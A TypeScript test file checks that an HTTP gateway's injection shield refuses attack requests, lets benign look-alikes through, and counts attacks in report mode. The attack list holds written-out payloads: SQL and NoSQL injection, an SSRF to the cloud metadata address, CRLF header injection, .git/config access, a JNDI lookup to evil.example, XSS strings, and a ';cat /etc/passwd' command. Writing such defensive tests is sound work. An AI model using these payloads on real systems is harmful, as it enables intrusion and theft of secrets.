import { request } from "undici";
import { expect, test } from "vitest";
import { open, problemOf, sendRaw, startTestGateway, startUpstream, type TestPolicy } from "../support/gateway.ts";

/** An upstream that says what it got, with a gateway that judges in front of it. */
async function start(policy: Partial<TestPolicy> = {}) {
  const upstream = await startUpstream((incoming, response) => {
    const chunks: Buffer[] = [];
    incoming.on("data", (chunk: Buffer) => chunks.push(chunk));
    incoming.on("end", () => {
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ url: incoming.url, body: Buffer.concat(chunks).toString("utf8") }));
    });
  });
  const routes = [
    open("GET /search", { query: "any" }),
    open("GET /files/*"),
    open("POST /notes", {
      body: {
        kind: "json-schema",
        schema: { type: "object", properties: { title: { type: "string" }, text: { type: "string" } } },
      },
    }),
    open("POST /any", { body: "any" }),
  ];
  return startTestGateway({ injection: { freeText: ["text"] }, routes, ...policy }, upstream.url);
}

const get = (path: string, headers = "") => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${headers}\r\n`;
const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;

const attacks = [
  ["SQL in the query", get("/search?q=%27%20OR%201%3D1%20--%20")],
  ["SQL, percent-encoded twice", get("/search?q=%2527%2520OR%25201%253D1--")],
  ["an operator of a database", get("/search?user%5B%24ne%5D=x")],
  ["a URL of the inside", get("/search?url=http%3A%2F%2F169.254.169.254%2Flatest%2F")],
  ["a line of a header", get("/search?q=x%250d%250aSet-Cookie:a=b")],
  ["the repository behind a rest", get("/files/.git/config")],
  ["a look-up in a header", get("/search", "User-Agent: ${jndi:ldap://evil.example/a}\r\n")],
  ["a script in a cookie", get("/search", "Cookie: a=%3Cscript%3Ealert(1)%3C/script%3E\r\n")],
  ["a script in a member", post("/notes", "application/json", '{"title":"<img src=x onerror=alert(1)>"}')],
  ["SQL to the end of free text", post("/notes", "application/json", '{"text":"nice!\' UNION SELECT a FROM b-- "}')],
  ["SQL in a body that no schema judges", post("/any", "application/json", '{"a":["\' OR 1=1 --"]}')],
  [
    "a command in a form that no schema judges",
    post("/any", "application/x-www-form-urlencoded", "a=%3Bcat+/etc/passwd"),
  ],
] as const;

test("attacks are refused with a problem that repeats nothing of them, wherever they stand", async () => {
  const gateway = await start();
  for (const [name, bytes] of attacks) {
    const answer = await sendRaw(gateway.httpPort, bytes);
    expect([name, answer.status, problemOf(answer)]).toEqual([name, 400, "input-refused"]);
    expect(answer.body).not.toMatch(/sql|jndi|script|passwd|OR 1=1|nosql/i);
  }
});

test("what only looks like one goes through as it is", async () => {
  const gateway = await start();
  const article = "An attacker types ' OR 1=1 -- into the form; `<script>alert(1)</script>` is another; it's old.";
  for (const [bytes, received] of [
    [get("/search?q=o%27brien%20%26%20sons"), { url: "/search?q=o%27brien%20%26%20sons", body: "" }],
    [
      post("/notes", "application/json", JSON.stringify({ text: article })),
      { url: "/notes", body: JSON.stringify({ text: article }) },
    ],
    [post("/any", "application/json", '{ "a" : 1 }'), { url: "/any", body: '{ "a" : 1 }' }],
    [post("/any", "image/png", "' OR 1=1 --"), { url: "/any", body: "' OR 1=1 --" }],
  ] as const) {
    const answer = await sendRaw(gateway.httpPort, bytes);
    expect([answer.status, JSON.parse(answer.body)]).toEqual([200, received]);
  }
});

test("in report mode attacks pass unchanged, and are counted", async () => {
  const gateway = await start({ mode: { injection: "report" } });
  for (const [, bytes] of attacks) expect((await sendRaw(gateway.httpPort, bytes)).status).toBe(200);
  const answer = await sendRaw(gateway.httpPort, post("/any", "application/json", '{ "a" : "\' OR 1=1 --" }'));
  expect(JSON.parse(answer.body)).toEqual({ url: "/any", body: '{ "a" : "\' OR 1=1 --" }' });
  const metrics = await (
    await request(`http://127.0.0.1:${gateway.adminPort}/metrics`, {
      headers: { authorization: `Bearer ${gateway.generatedAdminToken}` },
    })
  ).body.text();
  const counted = (route: string, guard: string) =>
    metrics
      .split("\n")
      .find((line) => line.includes(`route="${route}",decision="request.would-have-denied",guard="${guard}"`))
      ?.split(" ")
      .at(-1);
  expect(counted("GET /search", "injection")).toBe("5");
  expect(counted("GET /search", "injection-content")).toBe("2");
  expect(counted("POST /any", "injection-content")).toBe("3");
});

test("a route says what it wants of the policy's shield", async () => {
  const gateway = await start({
    routes: [
      open("GET /search", {
        query: "any",
        injection: { without: { sql: "the words are quoted by the search engine" } },
      }),
      open("GET /export", { query: "any", injection: { off: "only the reporting tool calls it, with raw SQL" } }),
    ],
  });
  const status = async (path: string) => (await sendRaw(gateway.httpPort, get(path))).status;
  expect(await status("/search?q=%27%20OR%201%3D1%20--%20")).toBe(200);
  expect(await status("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")).toBe(400);
  expect(await status("/export?q=%3Cscript%3Ealert(1)%3C/script%3E")).toBe(200);
});
